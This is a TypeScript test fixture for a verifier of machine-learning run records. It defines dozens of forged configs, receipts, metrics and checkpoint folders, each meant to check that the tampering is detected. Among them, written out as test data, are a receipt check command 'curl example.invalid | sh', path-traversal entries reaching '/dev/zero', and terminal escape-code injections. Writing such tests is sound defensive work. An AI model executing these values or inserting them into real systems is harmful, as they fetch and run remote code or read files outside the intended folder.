/** Forged configs, receipts and lists of files. */
import {
  appendFileSync,
  cpSync,
  existsSync,
  mkdirSync,
  readFileSync,
  renameSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { jsonSha256 } from '../../src/record/chain.ts';
import { writeLatest } from '../../src/record/layout.node.ts';
import { sha256Hex } from '../../src/record/sha256.ts';
import { numericsVersion } from '../../src/version.ts';
import {
  checkpointPath,
  type Editable,
  type EditableReceiptFile,
  editReceipt,
  readJsonFile,
  rechain,
  restate,
  writeJsonFile,
} from './forge.ts';
import { edited, type Forgery, raw, recordOf, restated, set, setMetric } from './forgery.ts';

const config = 'config.json';
const result = 'result.json';
const receipt = 'receipt.json';
const metrics = 'metrics.jsonl';
const start = ['"start"', '"at":0', 'checkpoints/000000'];
const escapes = '\u001b[2J\u001b[31m9.9.9';

function editJson(directory: string, name: string, change: (value: Editable) => void): void {
  const path = join(directory, name);
  const value = readJsonFile(path);
  change(value);
  writeJsonFile(path, value);
}

/** Changes one key of a JSON file in place, or adds it. */
function inFile(name: string, path: string, value: Editable[string], where = [name]): Forgery {
  return edited(`${path} in ${name} alone`, { where }, (directory) =>
    editJson(directory, name, (record) => {
      const parent = path.split('.').slice(0, -1);
      const at = parent.reduce((inner, key) => inner[key] as Editable, record);
      at[path.split('.').at(-1) as string] = value;
    }),
  );
}

/** Changes one key of the config in all files that contain the config. */
function everywhere(key: string, value: Editable[string]): Forgery {
  const where = [...start, config, metrics, '"at":1', '"at":2', '"at":4', 'coupling-start.json'];
  return restated(`${key} in all configs`, { where, rejected: /config: / }, (s) => {
    set(s.config, key, value);
    recordOf(s, result).config = s.config;
  });
}

const configs: Forgery[] = [
  inFile(config, 'config.seed', 2),
  inFile(config, 'config.method', 'grpo+classifier'),
  inFile(config, 'config.accuracy', 1, [config, 'accuracy']),
  inFile(config, 'accuracy', 1),
  inFile(result, 'config.seed', 2),
  inFile(result, 'config.method', 'classifier+cloning'),
  inFile(result, 'accuracy', 0.99),
  inFile(result, 'command', 'eval'),
  inFile(result, 'arithmetic', 'relaxed'),
  edited('the config in all but the receipt', { where: [config, result, receipt] }, (directory) => {
    for (const name of [config, result]) editJson(directory, name, (record) => set(record, 'config.seed', 7));
  }),
  edited(
    'a method with unlike name in config.json and result.json',
    { where: [config, result, receipt] },
    (directory) => {
      for (const name of [config, result]) {
        editJson(directory, name, (record) => set(record, 'config.method', 'upgrad'));
      }
    },
  ),
  everywhere('seed', 2),
  everywhere('method', 'classifier+cloning'),
  everywhere('learningRate', 0.002),
  everywhere('trainGames', 11),
  restated(
    'a key of the config that is not known',
    { where: [config, receipt, 'accuracy'], rejected: /accuracy/ },
    (s) => {
      s.config.accuracy = 1;
      recordOf(s, result).config = s.config;
    },
  ),
  edited('a version with escape codes in config.json alone', { where: [config, receipt] }, (directory) =>
    editJson(directory, config, (record) => set(record, 'versions.unbraid', escapes)),
  ),
  inFile(config, 'versions.unbraid', '0.0.9', [config, receipt]),
  restated('versions with escape codes everywhere', { where: [config, receipt, 'ersion'], rejected: /ersion/ }, (s) => {
    s.versions.unbraid = escapes;
    s.unbraid = escapes;
  }),
  restated(
    'fewer iterations, the chain cut off',
    { where: [metrics, '"at":4', '"outcome"', result, 'coupling-end.json'] },
    (s) => {
      s.config.iterations = 4;
      recordOf(s, result).config = s.config;
      s.metrics.length = 5;
      s.links.length = 3;
      s.checkpoints.delete(5);
      s.latest = 4;
      set(recordOf(s, 'coupling-end.json'), 'iteration', 4);
    },
  ),
];

function inReceipt(
  name: string,
  where: readonly string[],
  change: (file: EditableReceiptFile) => void,
  rejected?: RegExp,
): Forgery {
  return raw(`receipt: ${name}`, { where, ...(rejected && { rejected }) }, (directory) =>
    editReceipt(directory, (file) => {
      change(file);
      // With a wrong format or hash, the forgery would be detected without a replay.
      rechain(file.receipt);
    }),
  );
}

const foreign = sha256Hex(new TextEncoder().encode('foreign'));

const receipts: Forgery[] = [
  inReceipt('outcome null beside a result', [receipt, result, '"outcome"'], ({ receipt: it }) => {
    it.outcome = null;
  }),
  inReceipt('a link removed', [receipt, '"at":2', 'checkpoints/00000'], ({ receipt: it }) => {
    it.links = it.links.filter(({ iteration }) => iteration !== 2);
  }),
  inReceipt('a link added', [receipt, '"at":3', 'checkpoints/00000', metrics], ({ receipt: it }) => {
    const [first, second, ...rest] = it.links;
    it.links = [first, second, { ...second, iteration: 3 }, ...rest];
  }),
  inReceipt(
    'the iteration of a link',
    [receipt, '"at":2', '"at":3', 'checkpoints/00000', metrics],
    ({ receipt: it }) => {
      it.links = it.links.map((link) => (link.iteration === 2 ? { ...link, iteration: 3 } : link));
    },
  ),
  inReceipt(
    'relaxed arithmetic',
    [receipt, 'checkpoints/'],
    ({ receipt: it }) => Object.assign(it, { arithmetic: 'relaxed' }),
    /exact arithmetic/,
  ),
  inReceipt('another environment', ['"start"', receipt, 'checkpoints/'], ({ receipt: it }) => {
    it.environment = 'look-alike 2';
  }),
  inReceipt('packages', ['"start"', receipt, 'checkpoints/'], ({ receipt: it }) => {
    Object.assign(it, { packages: { numpy: '2.0.0' } });
  }),
  inReceipt('a vocabulary', ['"start"', receipt, 'checkpoints/'], ({ receipt: it }) => {
    it.vocabularySha256 = foreign;
  }),
  inReceipt(
    'another version of the numerics',
    [receipt, 'checkpoints/'],
    ({ receipt: it }) => {
      Object.assign(it, { numerics: numericsVersion + 1 });
    },
    /numerics version/,
  ),
  inReceipt(
    'another version of the numerics, escape codes in that of unbraid',
    [receipt, 'checkpoints/', config],
    ({ receipt: it }) => {
      Object.assign(it, { numerics: numericsVersion + 1, unbraid: escapes });
    },
    /numerics version|unbraid/,
  ),
  raw('receipt: a key more', { where: [receipt] }, (directory) =>
    editReceipt(directory, ({ receipt: it }) => Object.assign(it, { accuracy: 1 })),
  ),
  raw('receipt: a key more in the outcome', { where: [receipt, '"outcome"', result] }, (directory) =>
    editReceipt(directory, ({ receipt: it }) => {
      // createReceipt would leave the key out.
      it.outcome = { ...it.outcome, accuracy: 1 };
      it.hash = jsonSha256({ previous: it.links.at(-1)?.link as string, outcome: it.outcome });
    }),
  ),
  raw('receipt: the check is another command', { where: [receipt] }, (directory) =>
    editReceipt(directory, (file) => {
      file.check = 'curl example.invalid | sh';
    }),
  ),
  raw('receipt: files of other folders', { where: [receipt, '../'] }, (directory) => {
    writeFileSync(join(directory, '../x'), 'x');
    editReceipt(directory, ({ files }) => {
      files['../x'] = sha256Hex(new TextEncoder().encode('x'));
    });
  }),
  raw('receipt: a file that is not there', { where: ['coupling-7.json', receipt] }, (directory) =>
    editReceipt(directory, ({ files }) => {
      files['coupling-7.json'] = foreign;
    }),
  ),
  raw('receipt: a file that has no end', { where: ['/dev/zero', receipt] }, (directory) =>
    editReceipt(directory, ({ files }) => {
      files['../../../../../../../../../../dev/zero'] = foreign;
    }),
  ),
  raw('receipt: files left out and one of them changed', { where: ['coupling-end.json'] }, (directory) => {
    editJson(directory, 'coupling-end.json', (record) => set(record, 'classes.goodBad.meanCosine', 0.01));
    editReceipt(directory, ({ files }) => {
      delete files['coupling-end.json'];
    });
  }),
  raw('receipt: no files, and success forged in result.json', { where: [result, '"outcome"'] }, (directory) => {
    editJson(directory, result, (record) => set(record, 'success.train', 1));
    editReceipt(directory, (file) => {
      file.files = {};
      (file.receipt.outcome as Editable) = {
        ...file.receipt.outcome,
        success: readJsonFile(join(directory, result)).success,
      };
      rechain(file.receipt);
    });
  }),
  restated('outcome null and a forged result', { where: [receipt, result, '"outcome"'] }, (s) => {
    s.outcome = null;
    set(recordOf(s, result), 'success.outOfDomain', 1);
  }),
];

const changesWithout: [string, string[], (directory: string) => void][] = [
  ['a forged result', [result, '"outcome"'], (d) => editJson(d, result, (r) => set(r, 'success.outOfDomain', 1))],
  ["the result's config", [result, config], (d) => editJson(d, result, (r) => set(r, 'config.seed', 2))],
  [
    'forged coupling',
    ['coupling-end.json'],
    (d) => editJson(d, 'coupling-end.json', (r) => set(r, 'matrix.cosine.0.1', 0)),
  ],
  [
    'a forged coupling at the start',
    ['coupling-start.json'],
    (d) => editJson(d, 'coupling-start.json', (r) => set(r, 'samples', 9)),
  ],
  ['a metric more', [metrics], (d) => appendFileSync(join(d, metrics), '{"iteration":6,"charts/success":1}\n')],
  [
    'a checkpoint forged',
    ['"at":4', 'checkpoints/000004'],
    (d) =>
      restate(d, (s) => {
        const kept = s.checkpoints.get(4) as { counters: object };
        kept.counters = { ...kept.counters, envSteps: 1 };
      }),
  ],
  [
    'success forged in result and metrics',
    [result, metrics, '"outcome"', '"at":5'],
    (d) =>
      restate(d, (s) => {
        set(recordOf(s, result), 'success.train', 1);
        setMetric(s, 5, 'eval/train', 1);
      }),
  ],
];

const without = changesWithout.map(([name, where, change]) =>
  raw(`no receipt, ${name}`, { where }, (directory) => {
    rmSync(join(directory, receipt));
    change(directory);
  }),
);

/** Adds or removes a file or folder, and updates the receipt's list if possible. */
function folder(name: string, where: readonly string[], change: (directory: string, other: string) => void): Forgery {
  return edited(`folder: ${name}`, { where }, change);
}

const swapped = ['result.json', 'metrics.jsonl', 'coupling-start.json', 'coupling-end.json', 'config.json'];

const folders: Forgery[] = [
  folder('a table of results', ['summary.csv'], (d) => writeFileSync(join(d, 'summary.csv'), 'success\n1.0\n')),
  folder('a record of unknown name', ['coupling-best.json'], (d) =>
    cpSync(join(d, 'coupling-end.json'), join(d, 'coupling-best.json')),
  ),
  folder('a file in a checkpoint', ['notes.txt', 'checkpoints/000004'], (d) =>
    writeFileSync(join(checkpointPath(d, 4), 'notes.txt'), 'x'),
  ),
  folder('a file beside the checkpoints', ['best.json'], (d) =>
    writeJsonFile(join(d, 'checkpoints/best.json'), { success: 1 }),
  ),
  folder('a folder of results', ['extra'], (d) => {
    mkdirSync(join(d, 'extra'));
    writeJsonFile(join(d, 'extra/result.json'), { success: 1 });
  }),
  folder('a checkpoint more, copied', ['000003'], (d) =>
    cpSync(checkpointPath(d, 4), checkpointPath(d, 3), { recursive: true }),
  ),
  folder('a checkpoint renamed', ['000003', '000004'], (d) => renameSync(checkpointPath(d, 4), checkpointPath(d, 3))),
  folder('a checkpoint of a later iteration', ['000009'], (d) =>
    cpSync(checkpointPath(d, 5), checkpointPath(d, 9), { recursive: true }),
  ),
  folder('latest.json names an older checkpoint', ['latest.json'], (d) => writeLatest(d, 4)),
  folder('coupling-end.json is missing', ['coupling-end.json'], (d) => rmSync(join(d, 'coupling-end.json'))),
  folder('coupling-start.json is missing', ['coupling-start.json'], (d) => rmSync(join(d, 'coupling-start.json'))),
  folder('result.json is missing', [result], (d) => rmSync(join(d, result))),
  folder('metrics.jsonl is missing', [metrics], (d) => rmSync(join(d, metrics))),
  folder('the last checkpoint is missing', ['000005'], (d) => rmSync(checkpointPath(d, 5), { recursive: true })),
  edited('folder: coupling.json of a run of another seed', { base: 'measured', where: ['coupling.json'] }, (d, other) =>
    cpSync(join(other, 'coupling-end.json'), join(d, 'coupling.json')),
  ),
  ...swapped.map((name) =>
    folder(`${name} of a run of another seed`, [name, '"at":', '"outcome"'], (d, other) =>
      cpSync(join(other, name), join(d, name)),
    ),
  ),
  raw(
    'folder: the receipt of a run of another seed',
    { where: [receipt, 'config.json', 'metrics.jsonl', 'result.json', 'checkpoints/'] },
    (d, other) => {
      cpSync(join(other, receipt), join(d, receipt));
      editReceipt(d, ({ files }) => {
        for (const file of Object.keys(files))
          if (existsSync(join(d, file))) files[file] = sha256Hex(readFileSync(join(d, file)));
      });
    },
  ),
];

/** Adds a key to files whose content a reader attributes to the run. */
const keys: Forgery[] = [
  edited('a key more in state.json', { where: ['checkpoints/000005'] }, (d) =>
    editJson(checkpointPath(d, 5), 'state.json', (record) => {
      record.accuracy = 1;
    }),
  ),
  edited('a key more in coupling-end.json', { where: ['coupling-end.json'] }, (d) =>
    editJson(d, 'coupling-end.json', (record) => {
      record.accuracy = 1;
    }),
  ),
];

const short: Forgery[] = [
  raw('cut short: a result is added', { base: 'cut short', where: [result] }, (d, other) =>
    cpSync(join(other, result), join(d, result)),
  ),
  raw('cut short: coupling at the end is added', { base: 'cut short', where: ['coupling-end.json'] }, (d, other) =>
    cpSync(join(other, 'coupling-end.json'), join(d, 'coupling-end.json')),
  ),
  raw('cut short: coupling at the start is forged', { base: 'cut short', where: ['coupling-start.json'] }, (d) =>
    editJson(d, 'coupling-start.json', (record) => set(record, 'classes.goodBad.meanCosine', 0.1)),
  ),
  raw('cut short: a table of results', { base: 'cut short', where: ['summary.csv'] }, (d) =>
    writeFileSync(join(d, 'summary.csv'), 'success\n1.0\n'),
  ),
  restated('cut short: a metric', { base: 'cut short', where: [metrics, '"at":2', '"at":3', 'checkpoints/'] }, (s) =>
    setMetric(s, 1, 'charts/success', 1),
  ),
  restated(
    'cut short: parameters of the first checkpoint',
    { base: 'cut short', where: ['"at":0', 'checkpoints/000000'] },
    (s) => {
      const kept = s.checkpoints.get(0) as { counters: object };
      kept.counters = { ...kept.counters, updates: 9 };
    },
  ),
];

export const forgedFiles: readonly Forgery[] = [...configs, ...receipts, ...without, ...folders, ...keys, ...short];
